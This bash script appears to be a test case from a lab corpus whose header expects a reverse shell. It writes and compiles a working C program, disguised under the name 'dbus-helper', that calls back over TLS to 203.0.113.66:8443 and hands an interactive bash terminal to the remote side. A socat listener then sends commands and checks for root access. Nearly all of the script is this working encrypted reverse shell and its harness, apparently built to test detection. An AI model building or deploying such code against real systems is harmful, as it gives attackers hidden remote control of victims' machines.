#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=gcc,bash far=out ready=out:8443 seconds=26 parts=dns before=yes
# A small program calls back in TLS, opens a terminal for bash and carries what comes and goes between.
if [ "$1" = before ]; then
	cat >"$LAB/s.c" <<'END'
#include <arpa/inet.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <pty.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(8443)};
	char d[4096];
	int t, s = socket(AF_INET, SOCK_STREAM, 0);
	SSL *tls = SSL_new(SSL_CTX_new(TLS_client_method()));
	inet_pton(AF_INET, "203.0.113.66", &to.sin_addr);
	if (connect(s, (struct sockaddr *)&to, sizeof(to)) < 0)
		return 1;
	SSL_set_fd(tls, s);
	if (SSL_connect(tls) != 1)
		return 1;
	if (!forkpty(&t, NULL, NULL, NULL)) {
		execl("/bin/bash", "bash", "-i", (char *)NULL);
		_exit(1);
	}
	for (;;) {
		struct pollfd p[2] = {{.fd = s, .events = POLLIN}, {.fd = t, .events = POLLIN}};
		int n;
		poll(p, 2, -1);
		if (p[1].revents) {
			n = (int)read(t, d, sizeof(d));
			if (n <= 0 || SSL_write(tls, d, n) <= 0)
				return 0;
		}
		if (p[0].revents) {
			n = SSL_read(tls, d, sizeof(d));
			if (n <= 0 || write(t, d, (size_t)n) != n)
				return 0;
		}
	}
}
END
	exec gcc -O1 -o "$LAB/dbus-helper" "$LAB/s.c" -lssl -lcrypto -lutil
fi
if [ "$1" = out ]; then
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 -subj /CN=x -keyout "$LAB/b.key" -out "$LAB/b.pem" 2>/dev/null
	(sleep 6; for line in id "ls /" "uname -a" exit; do echo "$line"; sleep 2; done) | timeout 34 socat -t 2 - "OPENSSL-LISTEN:8443,bind=203.0.113.66,reuseaddr,verify=0,cert=$LAB/b.pem,key=$LAB/b.key" >"$LAB/heard"; exit 0
fi
timeout 24 "$LAB/dbus-helper"; grep -q uid=0 "$LAB/heard"
